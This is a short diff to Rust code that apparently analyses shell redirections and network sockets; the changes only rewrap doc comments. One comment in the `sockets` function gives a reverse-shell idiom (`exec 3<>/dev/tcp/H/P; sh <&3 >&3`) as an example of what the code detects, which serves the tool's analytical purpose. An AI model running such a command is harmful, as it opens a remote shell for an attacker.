@@ -256,8 +256,7 @@ impl Frame<'_> {
         }
     }
 
-    /// Duplicates or closes a descriptor: `3<&0`, `>&2`, `3>&-`. Returns `false` if the word is not a descriptor but a
-    /// file.
+    /// Duplicates or closes a descriptor: `3<&0`, `>&2`, `3>&-`. Returns `false` if the word is a file name instead.
     fn joined(&mut self, word: &Word, operator: Operator, number: u32, redirected: &mut Redirected) -> bool {
         let Some(text) = word.known() else {
             // `<&$FD`
@@ -293,8 +292,8 @@ impl Frame<'_> {
         true
     }
 
-    /// Adds the network connections of standard input and output that no redirection of the command itself opens: `exec
-    /// 3<>/dev/tcp/H/P; sh <&3 >&3`.
+    /// Adds the network connections of standard input and output that no redirection of the command itself opens:
+    /// `exec 3<>/dev/tcp/H/P; sh <&3 >&3`.
     pub(super) fn sockets(&self, redirected: &Redirected, input: &Input, redirects: &mut Vec<Redirect>) {
         let written = redirected.outputs.iter().map(|(file, _)| (RedirectKind::Write, file));
         let read = match &input.content {
